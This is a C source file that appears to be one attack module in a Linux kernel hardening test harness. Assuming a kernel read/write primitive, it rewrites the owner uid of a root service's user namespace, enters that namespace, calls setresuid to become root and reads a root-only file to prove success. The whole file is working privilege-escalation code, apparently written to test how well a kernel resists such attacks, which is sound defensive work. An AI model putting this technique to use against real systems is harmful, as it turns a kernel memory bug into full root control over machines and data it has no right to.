// SPDX-License-Identifier: GPL-2.0-only
/* Attack on who owns a user namespace: the attacker enters that of a service of root's. */
#include <sched.h>
#include <signal.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "attack.h"
#include "creds.h"
#include "list.h"
#include "objects.h"

static uint64_t find_ns(pid_t pid)
{
	uint64_t first = ksymbol(FIRST_NS), slot;
	struct task own, task;

	if (ktask(0, &own) || ktask(pid, &task) || !first)
		return 0;
	slot = find_word(own.cred, CRED_SIZE, first);
	return slot ? kread64(task.cred + (slot - own.cred)) : 0;
}

/* As if the service were the attacker's own. Whoever enters against a rule may be killed. */
static enum outcome enter(uint64_t level, uid_t owner, bool *entered)
{
	uint64_t old = kread64(level);
	int fd = syscall(SYS_pidfd_open, service_pid(), 0);
	enum outcome outcome;

	kwrite64(level, (uint32_t)old | (uint64_t)owner << 32);
	if (kill(service_pid(), 0))
		outcome = lost("the service gets no signal");
	else
		outcome = won("uid %d may send signals to root's pid %d", owner, service_pid());
	*entered = !setns(fd, CLONE_NEWUSER);
	kwrite64(level, old);
	close(fd);
	return outcome;
}

enum outcome user_ns_owner(void)
{
	uint64_t first = ksymbol(FIRST_NS), ns = find_ns(service_pid()), parent;
	enum outcome outcome;
	char text[64];
	bool entered;

	parent = ns && ns != first ? find_word(ns, NS_SIZE, first) : 0;
	if (!parent || root_file_says(text, sizeof(text)))
		return broken("no namespace of the service found, or the file is everybody's");
	outcome = enter(parent + NS_LEVEL, getuid(), &entered);
	if (!entered || setresuid(0, 0, 0) || !root_file_says(text, sizeof(text)))
		return outcome;
	return won("owner of the user namespace of pid %d said to be uid %d, who entered it, and is root: %s says \"%s\"",
		   service_pid(), ATTACKER_UID, ROOT_FILE, text);
}
